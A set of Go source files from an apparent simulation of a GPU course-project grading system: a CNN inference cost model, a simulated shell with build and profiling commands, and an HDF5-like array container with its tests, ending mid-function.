// (10000 images, §VI), while optimized student kernels on the K80-class
// device mostly finished the full dataset in under a second and the
// slowest final submission took ~2 minutes (Figure 2).
type CostModel interface {
	// Compile is the cost of `make` over srcBytes of source.
	Compile(srcBytes int64) time.Duration
	// Configure is the cost of `cmake`.
	Configure() time.Duration
	// Inference is the cost of running the network over images at the
	// given implementation level. tuning multiplies the base cost (a
	// per-team skill factor; 1.0 = reference).
	Inference(impl cnn.Impl, images int, tuning float64) time.Duration
	// ProfileOverhead scales a profiled run (nvprof slows execution).
	ProfileOverhead(base time.Duration) time.Duration
}

// Model is the default calibrated cost model.
type Model struct {
	// SerialPerImage is the CPU baseline per-image cost. 180 ms/image
	// x 10000 images = 30 minutes, matching §VI.
	SerialPerImage time.Duration
	// DeviceSpeedup is the device-vs-serial throughput ratio for kernel
	// implementations (K80-class default; see registry.DefaultImages).
	DeviceSpeedup float64
	// KernelFactor maps an implementation level to its cost multiplier
	// relative to the best kernel running on the device.
	KernelFactor map[cnn.Impl]float64
	// CompilePerMB is `make` cost per megabyte of source.
	CompilePerMB time.Duration
	// CompileBase is the fixed `make` overhead.
	CompileBase time.Duration
	// ConfigureCost is the `cmake` cost.
	ConfigureCost time.Duration
	// ProfileFactor is nvprof's slowdown multiplier.
	ProfileFactor float64
}

// DefaultCostModel returns the paper-calibrated model.
func DefaultCostModel() *Model {
	return &Model{
		SerialPerImage: 180 * time.Millisecond,
		DeviceSpeedup:  1800,
		KernelFactor: map[cnn.Impl]float64{
			// The serial baseline never touches the device.
			cnn.ImplNaiveSerial: 0, // sentinel: CPU path
			// A first working CUDA kernel: ~3 s full dataset.
			cnn.ImplLoopReorder: 3.0,
			// Shared-memory tiling: ~1.2 s.
			cnn.ImplTiled: 1.2,
			// im2col + GEMM: ~0.6 s.
			cnn.ImplIm2col: 0.6,
			// Streams + tuned GEMM, the winning shape: ~0.4 s.
			cnn.ImplParallel: 0.4,
		},
		CompilePerMB:  4 * time.Second,
		CompileBase:   2 * time.Second,
		ConfigureCost: 1500 * time.Millisecond,
		ProfileFactor: 1.35,
	}
}

// Compile implements CostModel.
func (m *Model) Compile(srcBytes int64) time.Duration {
	return m.CompileBase + time.Duration(float64(srcBytes)/(1<<20)*float64(m.CompilePerMB))
}

// Configure implements CostModel.
func (m *Model) Configure() time.Duration { return m.ConfigureCost }

// Inference implements CostModel.
func (m *Model) Inference(impl cnn.Impl, images int, tuning float64) time.Duration {
	if tuning <= 0 {
		tuning = 1
	}
	perImage := float64(m.SerialPerImage)
	if f, ok := m.KernelFactor[impl]; ok && f > 0 {
		// Device path: best-kernel time scaled by the kernel factor.
		perImage = perImage / m.DeviceSpeedup * f
	}
	return time.Duration(perImage * float64(images) * tuning)
}

// ProfileOverhead implements CostModel.
func (m *Model) ProfileOverhead(base time.Duration) time.Duration {
	return time.Duration(float64(base) * m.ProfileFactor)
}
