package shell

import (
	"encoding/json"
	"fmt"
	"path"
	"strconv"
	"strings"
	"time"

	"rai/internal/cnn"
	"rai/internal/vfs"
)

// Source pragmas the simulated compiler honours. Student source trees
// carry these markers to declare which kernel the "CUDA code" implements
// — the reproduction's stand-in for actually writing the kernel.
const (
	PragmaImpl         = "rai::impl="         // naive-serial | loop-reorder | tiled | im2col | parallel
	PragmaTuning       = "rai::tuning="       // float multiplier on runtime
	PragmaBug          = "rai::bug="          // accuracy | crash | hang
	PragmaCompileError = "rai::compile-error" // make fails
)

// verifyImages bounds the real-arithmetic correctness check per run.
const verifyImages = 10

// dataLoadBytesPerSec models h5 file load throughput.
const dataLoadBytesPerSec = 200 << 20

// binaryDescriptor is what `make` writes as the compiled executable.
type binaryDescriptor struct {
	RAIBinary int     `json:"rai_binary"`
	Target    string  `json:"target"`
	Impl      string  `json:"impl"`
	Tuning    float64 `json:"tuning"`
	Bug       string  `json:"bug"`
	SrcBytes  int64   `json:"src_bytes"`
}

func registerDefaults(sh *Shell) {
	sh.Register("echo", progEcho)
	sh.Register("true", func(*Shell, []string, *Result) error { return nil })
	sh.Register("false", func(_ *Shell, _ []string, r *Result) error {
		return &ExitError{Code: 1, Msg: "false"}
	})
	sh.Register("pwd", func(s *Shell, _ []string, _ *Result) error {
		fmt.Fprintln(s.Stdout, s.Cwd)
		return nil
	})
	sh.Register("sleep", progSleep)
	sh.Register("ls", progLs)
	sh.Register("cat", progCat)
	sh.Register("mkdir", progMkdir)
	sh.Register("cp", progCp)
	sh.Register("cmake", progCmake)
	sh.Register("make", progMake)
	sh.Register("nvprof", progNvprof)
	sh.Register("time", progTime)
}

func progEcho(sh *Shell, argv []string, _ *Result) error {
	fmt.Fprintln(sh.Stdout, strings.Join(argv[1:], " "))
	return nil
}

func progSleep(sh *Shell, argv []string, res *Result) error {
	if len(argv) != 2 {
		return &ExitError{Code: 2, Msg: "sleep: usage: sleep SECONDS"}
	}
	secs, err := strconv.ParseFloat(argv[1], 64)
	if err != nil || secs < 0 {
		return &ExitError{Code: 2, Msg: "sleep: invalid interval"}
	}
	res.Wall += time.Duration(secs * float64(time.Second))
	return nil
}

func progLs(sh *Shell, argv []string, _ *Result) error {
	dir := sh.Cwd
	if len(argv) > 1 {
		dir = sh.abs(argv[1])
	}
	entries, err := sh.FS.ReadDir(dir)
	if err != nil {
		fmt.Fprintf(sh.Stderr, "ls: %v\n", err)
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	for _, e := range entries {
		name := e.Name
		if e.Dir {
			name += "/"
		}
		fmt.Fprintln(sh.Stdout, name)
	}
	return nil
}

func progCat(sh *Shell, argv []string, _ *Result) error {
	if len(argv) < 2 {
		return &ExitError{Code: 2, Msg: "cat: usage: cat FILE..."}
	}
	for _, f := range argv[1:] {
		data, err := sh.FS.ReadFile(sh.abs(f))
		if err != nil {
			fmt.Fprintf(sh.Stderr, "cat: %v\n", err)
			return &ExitError{Code: 1, Msg: err.Error()}
		}
		sh.Stdout.Write(data)
	}
	return nil
}

func progMkdir(sh *Shell, argv []string, _ *Result) error {
	args := argv[1:]
	if len(args) > 0 && args[0] == "-p" {
		args = args[1:]
	}
	if len(args) == 0 {
		return &ExitError{Code: 2, Msg: "mkdir: missing operand"}
	}
	for _, d := range args {
		if err := sh.FS.MkdirAll(sh.abs(d)); err != nil {
			fmt.Fprintf(sh.Stderr, "mkdir: %v\n", err)
			return &ExitError{Code: 1, Msg: err.Error()}
		}
	}
	return nil
}

func progCp(sh *Shell, argv []string, _ *Result) error {
	args := argv[1:]
	recursive := false
	if len(args) > 0 && (args[0] == "-r" || args[0] == "-R") {
		recursive = true
		args = args[1:]
	}
	if len(args) != 2 {
		return &ExitError{Code: 2, Msg: "cp: usage: cp [-r] SRC DST"}
	}
	src, dst := sh.abs(args[0]), sh.abs(args[1])
	fi, err := sh.FS.Stat(src)
	if err != nil {
		fmt.Fprintf(sh.Stderr, "cp: %v\n", err)
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	if fi.Dir {
		if !recursive {
			msg := fmt.Sprintf("cp: -r not specified; omitting directory '%s'", args[0])
			fmt.Fprintln(sh.Stderr, msg)
			return &ExitError{Code: 1, Msg: msg}
		}
		// cp -r SRC DST: when DST exists, copy into DST/basename(SRC).
		if dfi, err := sh.FS.Stat(dst); err == nil && dfi.Dir {
			dst = path.Join(dst, path.Base(src))
		}
		if err := vfs.CopyTree(sh.FS, dst, sh.FS, src); err != nil {
			fmt.Fprintf(sh.Stderr, "cp: %v\n", err)
			return &ExitError{Code: 1, Msg: err.Error()}
		}
		return nil
	}
	data, err := sh.FS.ReadFile(src)
	if err != nil {
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	if dfi, err := sh.FS.Stat(dst); err == nil && dfi.Dir {
		dst = path.Join(dst, path.Base(src))
	}
	if err := sh.FS.WriteFile(dst, data); err != nil {
		fmt.Fprintf(sh.Stderr, "cp: %v\n", err)
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	return nil
}

// progCmake configures the build: it validates the source directory and
// generates a Makefile recording it (paper Listing 1 line 7).
func progCmake(sh *Shell, argv []string, res *Result) error {
	if len(argv) != 2 {
		return &ExitError{Code: 2, Msg: "cmake: usage: cmake SRCDIR"}
	}
	srcDir := sh.abs(argv[1])
	fi, err := sh.FS.Stat(srcDir)
	if err != nil || !fi.Dir {
		msg := fmt.Sprintf("CMake Error: The source directory \"%s\" does not exist.", srcDir)
		fmt.Fprintln(sh.Stderr, msg)
		return &ExitError{Code: 1, Msg: msg}
	}
	if !sh.FS.Exists(path.Join(srcDir, "CMakeLists.txt")) {
		msg := fmt.Sprintf("CMake Error: The source directory \"%s\" does not appear to contain CMakeLists.txt.", srcDir)
		fmt.Fprintln(sh.Stderr, msg)
		return &ExitError{Code: 1, Msg: msg}
	}
	target := cmakeTarget(sh.FS, srcDir)
	mk := fmt.Sprintf("# Makefile generated by cmake\nSRCDIR=%s\nTARGET=%s\n", srcDir, target)
	if err := sh.FS.WriteFile(path.Join(sh.Cwd, "Makefile"), []byte(mk)); err != nil {
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	fmt.Fprintf(sh.Stdout, "-- Configuring done\n-- Generating done\n-- Build files have been written to: %s\n", sh.Cwd)
	res.Wall += sh.Cost.Configure()
	return nil
}

// cmakeTarget extracts the add_executable target name, defaulting to the
// course binary name.
func cmakeTarget(fs *vfs.FS, srcDir string) string {
	data, err := fs.ReadFile(path.Join(srcDir, "CMakeLists.txt"))
	if err != nil {
		return "ece408"
	}
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if rest, ok := strings.CutPrefix(line, "add_executable("); ok {
			fields := strings.FieldsFunc(rest, func(r rune) bool { return r == ' ' || r == ')' || r == '\t' })
			if len(fields) > 0 && fields[0] != "" {
				return fields[0]
			}
		}
	}
	return "ece408"
}

// progMake "compiles" the student sources: it scans the source tree for
// pragmas, fails on rai::compile-error, and writes the binary descriptor
// as the build target (paper Listing 1 line 8).
func progMake(sh *Shell, argv []string, res *Result) error {
	mkPath := path.Join(sh.Cwd, "Makefile")
	mkData, err := sh.FS.ReadFile(mkPath)
	if err != nil {
		msg := "make: *** No targets specified and no makefile found.  Stop."
		fmt.Fprintln(sh.Stderr, msg)
		return &ExitError{Code: 2, Msg: msg}
	}
	srcDir, target := "", "ece408"
	for _, line := range strings.Split(string(mkData), "\n") {
		if v, ok := strings.CutPrefix(line, "SRCDIR="); ok {
			srcDir = strings.TrimSpace(v)
		}
		if v, ok := strings.CutPrefix(line, "TARGET="); ok {
			target = strings.TrimSpace(v)
		}
	}
	if srcDir == "" || !sh.FS.Exists(srcDir) {
		msg := "make: *** missing source directory.  Stop."
		fmt.Fprintln(sh.Stderr, msg)
		return &ExitError{Code: 2, Msg: msg}
	}
	desc := binaryDescriptor{RAIBinary: 1, Target: target, Impl: cnn.ImplNaiveSerial.String(), Tuning: 1}
	var srcBytes int64
	sources := 0
	var compileErr string
	walkErr := sh.FS.Walk(srcDir, func(p string, fi vfs.FileInfo) error {
		if fi.Dir || !isSourceFile(p) {
			return nil
		}
		sources++
		srcBytes += fi.Size
		data, err := sh.FS.ReadFile(p)
		if err != nil {
			return err
		}
		text := string(data)
		if strings.Contains(text, PragmaCompileError) {
			compileErr = p
		}
		if v := pragmaValue(text, PragmaImpl); v != "" {
			desc.Impl = v
		}
		if v := pragmaValue(text, PragmaTuning); v != "" {
			if f, err := strconv.ParseFloat(v, 64); err == nil && f > 0 {
				desc.Tuning = f
			}
		}
		if v := pragmaValue(text, PragmaBug); v != "" {
			desc.Bug = v
		}
		return nil
	})
	if walkErr != nil {
		return &ExitError{Code: 2, Msg: walkErr.Error()}
	}
	if sources == 0 {
		msg := "make: *** no source files found.  Stop."
		fmt.Fprintln(sh.Stderr, msg)
		return &ExitError{Code: 2, Msg: msg}
	}
	if !validImplName(desc.Impl) {
		msg := fmt.Sprintf("nvcc fatal: unknown kernel variant %q", desc.Impl)
		fmt.Fprintln(sh.Stderr, msg)
		return &ExitError{Code: 2, Msg: msg}
	}
	res.Wall += sh.Cost.Compile(srcBytes)
	if compileErr != "" {
		fmt.Fprintf(sh.Stderr, "%s: error: expected ';' before '}' token\nmake: *** [%s.o] Error 1\n", compileErr, target)
		return &ExitError{Code: 2, Msg: "compile error in " + compileErr}
	}
	desc.SrcBytes = srcBytes
	blob, err := json.Marshal(desc)
	if err != nil {
		return &ExitError{Code: 2, Msg: err.Error()}
	}
	if err := sh.FS.WriteFile(path.Join(sh.Cwd, target), blob); err != nil {
		return &ExitError{Code: 2, Msg: err.Error()}
	}
	fmt.Fprintf(sh.Stdout, "[100%%] Built target %s\n", target)
	return nil
}

func isSourceFile(p string) bool {
	for _, ext := range []string{".cu", ".cuh", ".cc", ".cpp", ".c", ".h", ".hpp"} {
		if strings.HasSuffix(p, ext) {
			return true
		}
	}
	return false
}

func pragmaValue(text, pragma string) string {
	idx := strings.Index(text, pragma)
	if idx < 0 {
		return ""
	}
	rest := text[idx+len(pragma):]
	end := strings.IndexAny(rest, " \t\n\r")
	if end < 0 {
		end = len(rest)
	}
	return rest[:end]
}

func validImplName(name string) bool {
	for _, im := range cnn.Impls {
		if im.String() == name {
			return true
		}
	}
	return false
}

func implByName(name string) cnn.Impl {
	for _, im := range cnn.Impls {
		if im.String() == name {
			return im
		}
	}
	return cnn.ImplNaiveSerial
}

// progNvprof profiles a wrapped command and exports a timeline file
// (paper Listing 1 lines 10–11).
func progNvprof(sh *Shell, argv []string, res *Result) error {
	exportPath := ""
	rest := argv[1:]
	for len(rest) > 0 && strings.HasPrefix(rest[0], "--") {
		switch {
		case rest[0] == "--export-profile" && len(rest) > 1:
			exportPath = rest[1]
			rest = rest[2:]
		case strings.HasPrefix(rest[0], "--export-profile="):
			exportPath = strings.TrimPrefix(rest[0], "--export-profile=")
			rest = rest[1:]
		default:
			rest = rest[1:] // ignore other flags
		}
	}
	if len(rest) == 0 {
		return &ExitError{Code: 2, Msg: "nvprof: no command to profile"}
	}
	inner, err := sh.exec(rest)
	res.Wall += sh.Cost.ProfileOverhead(inner.Wall)
	res.TimeReport = inner.TimeReport
	res.InternalTimer = inner.InternalTimer
	res.RanInference = inner.RanInference
	res.Accuracy = inner.Accuracy
	if err != nil {
		res.ExitCode = inner.ExitCode
		return err
	}
	if exportPath != "" {
		profile := fmt.Sprintf("NVPROF TIMELINE v1\ncommand: %s\nkernels: forward_kernel gemm_kernel pool_kernel\nelapsed: %.6fs\n",
			strings.Join(rest, " "), inner.Wall.Seconds())
		if err := sh.FS.WriteFile(sh.abs(exportPath), []byte(profile)); err != nil {
			return &ExitError{Code: 1, Msg: err.Error()}
		}
		fmt.Fprintf(sh.Stdout, "==1== Generated result file: %s\n", sh.abs(exportPath))
	}
	return nil
}

// progTime is /usr/bin/time: it runs the wrapped command and records a
// timing report visible only to instructors (paper Listing 2 line 10).
func progTime(sh *Shell, argv []string, res *Result) error {
	if len(argv) < 2 {
		return &ExitError{Code: 2, Msg: "time: no command"}
	}
	inner, err := sh.exec(argv[1:])
	res.Wall += inner.Wall
	res.InternalTimer = inner.InternalTimer
	res.RanInference = inner.RanInference
	res.Accuracy = inner.Accuracy
	secs := inner.Wall.Seconds()
	res.TimeReport = fmt.Sprintf("real %.2f\nuser %.2f\nsys 0.00\n", secs, secs*0.98)
	if err != nil {
		res.ExitCode = inner.ExitCode
		return err
	}
	return nil
}

// runBinary executes a compiled descriptor (./ece408 DATA MODEL [N]).
func runBinary(sh *Shell, argv []string, res *Result) error {
	binPath := sh.abs(argv[0])
	blob, err := sh.FS.ReadFile(binPath)
	if err != nil {
		fmt.Fprintf(sh.Stderr, "sh: %s: %v\n", argv[0], err)
		return &ExitError{Code: 126, Msg: err.Error()}
	}
	var desc binaryDescriptor
	if err := json.Unmarshal(blob, &desc); err != nil || desc.RAIBinary != 1 {
		msg := fmt.Sprintf("sh: %s: cannot execute binary file", argv[0])
		fmt.Fprintln(sh.Stderr, msg)
		return &ExitError{Code: 126, Msg: msg}
	}
	if len(argv) < 3 {
		msg := fmt.Sprintf("usage: %s DATA.hdf5 MODEL.hdf5 [COUNT]", argv[0])
		fmt.Fprintln(sh.Stderr, msg)
		return &ExitError{Code: 2, Msg: msg}
	}
	dataPath, modelPath := sh.abs(argv[1]), sh.abs(argv[2])

	switch desc.Bug {
	case "oom":
		// A kernel that tries to allocate far beyond the container's
		// memory limit; the sandbox enforces the cap.
		res.MemBytes = 64 << 30
		fmt.Fprintln(sh.Stderr, "cudaMalloc: allocating 64 GiB host staging buffer")
		return nil
	case "crash":
		fmt.Fprintln(sh.Stderr, "CUDA error: an illegal memory access was encountered (err 77)")
		return &ExitError{Code: 1, Msg: "CUDA illegal memory access"}
	case "hang":
		// The kernel never returns; the sandbox's lifetime limit reaps it.
		res.Wall += 365 * 24 * time.Hour
		fmt.Fprintln(sh.Stderr, "(kernel running...)")
		return &ExitError{Code: 137, Msg: "killed: container lifetime exceeded"}
	}

	dataBlob, err := sh.FS.ReadFile(dataPath)
	if err != nil {
		fmt.Fprintf(sh.Stderr, "%s: cannot open data file %s\n", desc.Target, argv[1])
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	modelBlob, err := sh.FS.ReadFile(modelPath)
	if err != nil {
		fmt.Fprintf(sh.Stderr, "%s: cannot open model file %s\n", desc.Target, argv[2])
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	ds, err := cnn.DecodeDataset(dataBlob)
	if err != nil {
		fmt.Fprintf(sh.Stderr, "%s: bad data file: %v\n", desc.Target, err)
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	nw, err := cnn.LoadModel(modelBlob)
	if err != nil {
		fmt.Fprintf(sh.Stderr, "%s: bad model file: %v\n", desc.Target, err)
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	count := ds.Images.N
	if len(argv) >= 4 {
		n, err := strconv.Atoi(argv[3])
		if err != nil || n <= 0 {
			msg := fmt.Sprintf("%s: bad image count %q", desc.Target, argv[3])
			fmt.Fprintln(sh.Stderr, msg)
			return &ExitError{Code: 2, Msg: msg}
		}
		count = n
	}
	impl := implByName(desc.Impl)
	fmt.Fprintf(sh.Stdout, "Loading model... done\nLoading data... done\nRunning inference on %d images (%s kernel)\n", count, desc.Impl)

	// Real arithmetic on the verification subset.
	vn := verifyImages
	if vn > ds.Images.N {
		vn = ds.Images.N
	}
	sub := subset(ds, vn)
	acc, err := nw.Accuracy(impl, sub.Images, sub.Labels)
	if err != nil {
		return &ExitError{Code: 1, Msg: err.Error()}
	}
	if desc.Bug == "accuracy" {
		// An incorrect kernel: correctness visibly off target.
		acc *= 0.62
	}

	// Modeled time: load + inference over the full requested count.
	loadCost := time.Duration(float64(len(dataBlob)+len(modelBlob)) / dataLoadBytesPerSec * float64(time.Second))
	inferCost := sh.Cost.Inference(impl, count, desc.Tuning)
	res.Wall += loadCost + inferCost
	res.InternalTimer = inferCost
	res.RanInference = true
	res.Accuracy = acc
	// Working set: model + data resident plus activation buffers.
	res.MemBytes = int64(len(modelBlob)+len(dataBlob)) + 256<<20

	fmt.Fprintf(sh.Stdout, "Correctness: %.4f Model: %s\n", acc, desc.Impl)
	fmt.Fprintf(sh.Stdout, "Internal timer: %.4f s\n", inferCost.Seconds())
	return nil
}

func subset(ds *cnn.Dataset, n int) *cnn.Dataset {
	if n >= ds.Images.N {
		return ds
	}
	imgs := cnn.NewTensor(n, ds.Images.C, ds.Images.H, ds.Images.W)
	copy(imgs.Data, ds.Images.Data[:imgs.Len()])
	return &cnn.Dataset{Images: imgs, Labels: ds.Labels[:n]}
}
