package h5lite

import (
	"bytes"
	"hash/crc32"
	"strings"
	"testing"
)

func crc32Checksum(b []byte) uint32 { return crc32.ChecksumIEEE(b) }

func TestWriteTo(t *testing.T) {
	f := NewFile()
	f.AddFloat32("x", []int{2}, []float32{1, 2})
	var buf bytes.Buffer
	n, err := f.WriteTo(&buf)
	if err != nil || n != int64(buf.Len()) {
		t.Fatalf("WriteTo = %d, %v", n, err)
	}
	if _, err := Decode(buf.Bytes()); err != nil {
		t.Fatal(err)
	}
}

func TestDTypeStringsAndSizes(t *testing.T) {
	cases := map[DType][2]any{
		Float32:  {"float32", 4},
		Float64:  {"float64", 8},
		Int32:    {"int32", 4},
		Uint8:    {"uint8", 1},
		DType(9): {"DType(9)", 0},
	}
	for d, want := range cases {
		if d.String() != want[0].(string) {
			t.Errorf("%d.String() = %q", d, d.String())
		}
		if d.Size() != want[1].(int) {
			t.Errorf("%d.Size() = %d", d, d.Size())
		}
	}
}

func TestBadDatasetNames(t *testing.T) {
	f := NewFile()
	if err := f.AddFloat32("", []int{1}, []float32{1}); err == nil {
		t.Error("empty name accepted")
	}
	long := strings.Repeat("x", 70000)
	if err := f.AddFloat32(long, []int{1}, []float32{1}); err == nil {
		t.Error("oversized name accepted")
	}
}

func TestDecodeBadDtypeAndDims(t *testing.T) {
	f := NewFile()
	f.AddUint8("x", []int{4}, []byte{1, 2, 3, 4})
	enc := f.Encode()
	// Locate the dtype byte: magic(7) + count(4) + namelen(2) + "x"(1).
	idx := 7 + 4 + 2 + 1
	bad := append([]byte(nil), enc...)
	bad[idx] = 99 // invalid dtype; CRC must be fixed to reach the check
	patchCRC(bad)
	if _, err := Decode(bad); err == nil {
		t.Error("invalid dtype accepted")
	}
}

// patchCRC rewrites the trailing checksum after a deliberate mutation.
func patchCRC(b []byte) {
	body := b[:len(b)-4]
	c := crc32Checksum(body)
	b[len(b)-4] = byte(c)
	b[len(b)-3] = byte(c >> 8)
	b[len(b)-2] = byte(c >> 16)
	b[len(b)-1] = byte(c >> 24)
}
