package h5lite

import (
	"bytes"
	"errors"
	"math"
	"testing"
	"testing/quick"
)

func TestRoundTripFloat32(t *testing.T) {
	f := NewFile()
	data := []float32{1, -2.5, 3.25, 0, math.MaxFloat32}
	if err := f.AddFloat32("model/conv1/weights", []int{5}, data); err != nil {
		t.Fatal(err)
	}
	enc := f.Encode()
	dec, err := Decode(enc)
	if err != nil {
		t.Fatal(err)
	}
	d, err := dec.Get("model/conv1/weights")
	if err != nil {
		t.Fatal(err)
	}
	got, err := d.Float32s()
	if err != nil {
		t.Fatal(err)
	}
	for i := range data {
		if got[i] != data[i] {
			t.Fatalf("got[%d] = %v, want %v", i, got[i], data[i])
		}
	}
}

func TestRoundTripMultipleDatasets(t *testing.T) {
	f := NewFile()
	f.AddFloat32("w", []int{2, 3}, []float32{1, 2, 3, 4, 5, 6})
	f.AddInt32("labels", []int{4}, []int32{0, 9, -1, 7})
	f.AddUint8("pixels", []int{2, 2, 2}, []uint8{1, 2, 3, 4, 5, 6, 7, 8})
	dec, err := Decode(f.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if names := dec.Names(); len(names) != 3 || names[0] != "labels" {
		t.Fatalf("names = %v", names)
	}
	lab, _ := dec.Get("labels")
	vals, err := lab.Int32s()
	if err != nil || vals[2] != -1 {
		t.Fatalf("labels = %v, %v", vals, err)
	}
	pix, _ := dec.Get("pixels")
	if pix.Len() != 8 || len(pix.Shape) != 3 {
		t.Fatalf("pixels = %+v", pix)
	}
	b, err := pix.Uint8s()
	if err != nil || b[7] != 8 {
		t.Fatalf("pixel data = %v, %v", b, err)
	}
}

func TestShapeValidation(t *testing.T) {
	f := NewFile()
	if err := f.AddFloat32("x", []int{2, 2}, []float32{1, 2, 3}); !errors.Is(err, ErrBadShape) {
		t.Errorf("mismatched shape: %v", err)
	}
	if err := f.AddFloat32("x", []int{0}, nil); !errors.Is(err, ErrBadShape) {
		t.Errorf("zero dim: %v", err)
	}
	if err := f.AddFloat32("x", []int{-1}, []float32{1}); !errors.Is(err, ErrBadShape) {
		t.Errorf("negative dim: %v", err)
	}
}

func TestDuplicateName(t *testing.T) {
	f := NewFile()
	f.AddFloat32("x", []int{1}, []float32{1})
	if err := f.AddInt32("x", []int{1}, []int32{1}); !errors.Is(err, ErrDupDataset) {
		t.Errorf("duplicate: %v", err)
	}
}

func TestWrongTypeAccessors(t *testing.T) {
	f := NewFile()
	f.AddFloat32("x", []int{1}, []float32{1})
	d, _ := f.Get("x")
	if _, err := d.Int32s(); err == nil {
		t.Error("Int32s on float32 dataset succeeded")
	}
	if _, err := d.Uint8s(); err == nil {
		t.Error("Uint8s on float32 dataset succeeded")
	}
}

func TestGetMissing(t *testing.T) {
	f := NewFile()
	if _, err := f.Get("nope"); !errors.Is(err, ErrNoDataset) {
		t.Errorf("missing dataset: %v", err)
	}
}

func TestDecodeRejectsCorruption(t *testing.T) {
	f := NewFile()
	f.AddFloat32("x", []int{4}, []float32{1, 2, 3, 4})
	enc := f.Encode()

	if _, err := Decode([]byte("not even close")); !errors.Is(err, ErrBadMagic) {
		t.Errorf("bad magic: %v", err)
	}
	// Flip a payload byte: CRC must catch it.
	bad := append([]byte(nil), enc...)
	bad[len(bad)-10] ^= 0xff
	if _, err := Decode(bad); !errors.Is(err, ErrCorrupt) {
		t.Errorf("bit flip: %v", err)
	}
	// Truncate.
	if _, err := Decode(enc[:len(enc)-5]); err == nil {
		t.Error("truncated file accepted")
	}
	// Trailing garbage breaks the checksum.
	if _, err := Decode(append(append([]byte(nil), enc...), 0, 1, 2)); !errors.Is(err, ErrCorrupt) {
		t.Errorf("trailing bytes: %v", err)
	}
}

func TestEncodeDeterministic(t *testing.T) {
	mk := func() []byte {
		f := NewFile()
		f.AddFloat32("b", []int{1}, []float32{2})
		f.AddFloat32("a", []int{1}, []float32{1})
		return f.Encode()
	}
	if !bytes.Equal(mk(), mk()) {
		t.Error("encoding is not deterministic")
	}
}

func TestQuickRoundTrip(t *testing.T) {
	prop := func(vals []float32, labels []int32) bool {
		if len(vals) == 0 {
			vals = []float32{0}
		}
		if len(labels) == 0 {
			labels = []int32{0}
		}
		for i, v := range vals {
			if v != v { // NaN compares unequal; normalize for the check
				vals[i] = 0
			}
		}
		f := NewFile()
		if err := f.AddFloat32("v", []int{len(vals)}, vals); err != nil {
			return false
		}
		if err := f.AddInt32("l", []int{len(labels)}, labels); err != nil {
			return false
		}
		dec, err := Decode(f.Encode())
		if err != nil {
			return false
		}
		dv, _ := dec.Get("v")
		gotV, err := dv.Float32s()
		if err != nil {
			return false
		}
		for i := range vals {
			if gotV[i] != vals[i] {
				return false
			}
		}
		dl, _ := dec.Get("l")
		gotL, err := dl.Int32s()
		if err != nil {
			return false
		}
		for i := range labels {
			if gotL[i] != labels[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}
