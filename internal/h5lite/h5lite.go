// Package h5lite is a compact self-describing binary container for named
// n-dimensional arrays. It stands in for the HDF5 files the course
// project used ("The project uses the HDF5 format to store the neural
// network's model and test data files", paper §V footnote): the
// simulated ece408 binary loads its weights and test batches from
// h5lite files exactly the way the real one loaded .hdf5.
//
// Layout (little endian):
//
//	magic   "H5LITE\x01"
//	uint32  dataset count
//	per dataset:
//	    uint16 name length, name bytes (UTF-8)
//	    uint8  dtype (0 float32, 1 float64, 2 int32, 3 uint8)
//	    uint8  rank
//	    rank × uint64 dims
//	    payload (dtype-sized elements, row major)
//	uint32  IEEE CRC-32 of everything above
package h5lite

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"math"
	"sort"
)

// DType enumerates element types.
type DType uint8

// Supported element types.
const (
	Float32 DType = iota
	Float64
	Int32
	Uint8
)

// Size returns the element size in bytes.
func (d DType) Size() int {
	switch d {
	case Float32, Int32:
		return 4
	case Float64:
		return 8
	case Uint8:
		return 1
	default:
		return 0
	}
}

func (d DType) String() string {
	switch d {
	case Float32:
		return "float32"
	case Float64:
		return "float64"
	case Int32:
		return "int32"
	case Uint8:
		return "uint8"
	default:
		return fmt.Sprintf("DType(%d)", uint8(d))
	}
}

// Errors reported by the package.
var (
	ErrBadMagic   = errors.New("h5lite: bad magic")
	ErrCorrupt    = errors.New("h5lite: corrupt file")
	ErrNoDataset  = errors.New("h5lite: no such dataset")
	ErrBadShape   = errors.New("h5lite: shape/payload mismatch")
	ErrDupDataset = errors.New("h5lite: duplicate dataset name")
)

var magic = []byte("H5LITE\x01")

// Dataset is one named array.
type Dataset struct {
	Name  string
	Dtype DType
	Shape []int
	// Raw holds the little-endian payload.
	Raw []byte
}

// Len returns the element count implied by Shape.
func (d *Dataset) Len() int {
	n := 1
	for _, s := range d.Shape {
		n *= s
	}
	return n
}

// Float32s decodes the payload as []float32 (dtype must be Float32).
func (d *Dataset) Float32s() ([]float32, error) {
	if d.Dtype != Float32 {
		return nil, fmt.Errorf("h5lite: dataset %q is %s, not float32", d.Name, d.Dtype)
	}
	out := make([]float32, d.Len())
	for i := range out {
		out[i] = math.Float32frombits(binary.LittleEndian.Uint32(d.Raw[i*4:]))
	}
	return out, nil
}

// Int32s decodes the payload as []int32.
func (d *Dataset) Int32s() ([]int32, error) {
	if d.Dtype != Int32 {
		return nil, fmt.Errorf("h5lite: dataset %q is %s, not int32", d.Name, d.Dtype)
	}
	out := make([]int32, d.Len())
	for i := range out {
		out[i] = int32(binary.LittleEndian.Uint32(d.Raw[i*4:]))
	}
	return out, nil
}

// Uint8s decodes the payload as []uint8.
func (d *Dataset) Uint8s() ([]uint8, error) {
	if d.Dtype != Uint8 {
		return nil, fmt.Errorf("h5lite: dataset %q is %s, not uint8", d.Name, d.Dtype)
	}
	return append([]byte(nil), d.Raw...), nil
}

// File is a collection of named datasets.
type File struct {
	datasets map[string]*Dataset
}

// NewFile returns an empty file.
func NewFile() *File { return &File{datasets: map[string]*Dataset{}} }

// AddFloat32 stores data under name with the given shape.
func (f *File) AddFloat32(name string, shape []int, data []float32) error {
	if err := checkShape(shape, len(data)); err != nil {
		return fmt.Errorf("%w (dataset %q)", err, name)
	}
	raw := make([]byte, len(data)*4)
